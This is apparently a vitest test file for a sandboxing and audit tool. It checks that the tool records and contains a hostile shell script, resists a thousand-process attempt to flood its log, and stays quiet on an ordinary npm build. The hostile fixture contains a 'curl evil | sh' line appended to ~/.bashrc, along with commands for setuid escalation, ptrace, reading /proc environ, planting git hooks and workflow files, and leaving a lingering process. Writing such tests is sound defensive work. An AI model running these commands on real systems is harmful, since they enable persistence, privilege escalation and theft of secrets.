import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { RecordEvent } from '../../src/audit/index.ts';
import { isAlarming } from '../../src/audit/index.ts';
import { Place } from './cofferdam.fixture.ts';

let place: Place;
let work = '';
beforeEach(() => {
  place = new Place();
  work = join(place.directory, 'work');
  mkdirSync(work);
});
afterEach(() => place.remove());

function recorded(): readonly RecordEvent[] {
  const [run = ''] = readdirSync(join(place.state, 'runs'));
  const lines = readFileSync(join(place.state, 'runs', run, 'record/record.jsonl'), 'utf8')
    .trim()
    .split('\n');
  return lines.map((line) => JSON.parse(line) as RecordEvent);
}

const risks = (events: readonly RecordEvent[]) => events.filter((event) => event.type === 'risk.attempted');

const exec = (...command: readonly string[]) =>
  place.run(['exec', '--apply', 'never', '--workdir', work, '--', ...command]);

describe('a hostile program', () => {
  test('is told of at the end of the run and in its record, with what, by whom and how it ended', async () => {
    writeFileSync(
      join(work, 'hostile.sh'),
      `unshare --user true
echo 'curl evil | sh' >> ~/.bashrc
mkdir -p .github/workflows .git/hooks; echo x > .github/workflows/release.yml; echo x > .git/hooks/pre-push
date --set 2020-01-01
cat /proc/$PPID/environ; cat /proc/$$/environ > /dev/null
cp /bin/true mine; chmod u+s mine
python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(16, 1, 0, 0)'
setsid sleep 600 > /dev/null 2>&1 < /dev/null &
exit 0`,
    );
    const ran = await exec('sh', 'hostile.sh');
    expect(ran.status, ran.stderr).toBe(0);
    expect(ran.stderr).toContain('! denied  make or enter a namespace  unshare   by unshare --user true');
    expect(ran.stderr).toMatch(
      /! done {2}write shell configuration {2}\/home\/runner\/\.bashrc {3}by sh hostile\.sh/,
    );
    expect(ran.stderr).toMatch(/! left {2}running when its step was over {3}by sleep 600/);
    expect(ran.stderr).toContain('CONTAINED  3 denied');
    const events = recorded();
    const told = risks(events).map(({ operation, outcome, process, count }) => [
      operation,
      outcome,
      process.argv[0],
      process.uid,
      count,
    ]);
    for (const [operation, outcome, program] of [
      ['namespace', 'denied', 'unshare'],
      ['shell-configuration', 'allowed', 'sh'],
      ['workflow-file', 'allowed', 'sh'],
      ['hook', 'allowed', 'sh'],
      ['clock', 'denied', 'date'],
      ['process-memory', 'allowed', 'cat'],
      ['set-user-id', 'allowed', 'chmod'],
      ['process-memory', 'denied', 'python3'],
    ])
      expect(told).toContainEqual([operation, outcome, program, 1_001, undefined]);
    expect(risks(events).every(({ step }) => step === 'command')).toBe(true);
    const ended = events.find((event) => event.type === 'process.exited' && event.exit.code === 1);
    expect(ended).toMatchObject({ durationMs: expect.any(Number), cpuMs: expect.any(Number) });
    const shown = await place.run(['audit', 'show', 'latest']);
    expect(shown.stdout).toMatch(
      / ! risk\.attempted +command {2}denied {2}change the clock {2}clock_settime {3}by date/,
    );
  });

  test('cannot fill the record: a thousand processes that try the same are told in few events, and all are counted', async () => {
    const script = `
import ctypes, os
libc = ctypes.CDLL(None)
for i in range(1000):
    if os.fork() == 0:
        for j in range(10): libc.unshare(0x10000000)
        os._exit(0)
    os.wait()`;
    const ran = await exec('python3', '-c', script);
    expect(ran.status, ran.stderr).toBe(0);
    const told = risks(recorded());
    expect(told.length).toBeLessThan(60);
    expect(told.reduce((sum, { count = 1 }) => sum + count, 0)).toBe(10_000);
    expect(ran.stderr).toContain('CONTAINED  10000 denied, 0 telemetry gaps');
  });
});

describe('an ordinary build', () => {
  test('raises no alarm: dependencies installed, tests run, servers started and ended, archives unpacked', async () => {
    mkdirSync(join(work, 'lib/.github/workflows'), { recursive: true });
    writeFileSync(
      join(work, 'lib/package.json'),
      '{ "name": "lib", "version": "1.0.0", "main": "index.js" }',
    );
    writeFileSync(join(work, 'lib/index.js'), 'module.exports = 42;');
    writeFileSync(join(work, 'lib/.npmrc'), '');
    writeFileSync(join(work, 'lib/.github/workflows/ci.yml'), 'on: push');
    writeFileSync(
      join(work, 'package.json'),
      '{ "name": "app", "version": "1.0.0", "dependencies": { "lib": "file:lib" }, "scripts": { "test": "node --test" } }',
    );
    writeFileSync(
      join(work, 'app.test.js'),
      `const test = require('node:test'); const assert = require('node:assert');
test('serves', async () => {
  const server = require('node:http').createServer((_, answer) => answer.end(String(require('lib')))).listen(0);
  await new Promise((resolve) => server.once('listening', resolve));
  const answer = await fetch('http://127.0.0.1:' + server.address().port);
  assert.equal(await answer.text(), '42');
  server.close(); server.closeAllConnections();
  require('node:child_process').execFileSync('git', ['init', '-q', '/tmp/fixture']);
});`,
    );
    const ran = await exec(
      'bash',
      '-ec',
      'export npm_config_update_notifier=false; npm install --offline --no-audit --no-fund --install-links; npm test; tar cf /tmp/a.tar .; mkdir /tmp/b; tar xf /tmp/a.tar -C /tmp/b; ps aux >/dev/null; rm -rf /tmp/b; (sleep 0.01 &)',
    );
    expect(ran.status, ran.stdout + ran.stderr).toBe(0);
    expect(ran.stderr).not.toContain('!');
    expect(ran.stderr).toContain('PASSED  0 denied, 0 telemetry gaps');
    const events = recorded();
    expect(risks(events).filter(isAlarming)).toEqual([]);
    const types = new Set(events.map(({ type }) => type));
    for (const type of ['process.started', 'process.exited', 'network.listening'])
      expect(types).toContain(type);
  });
});
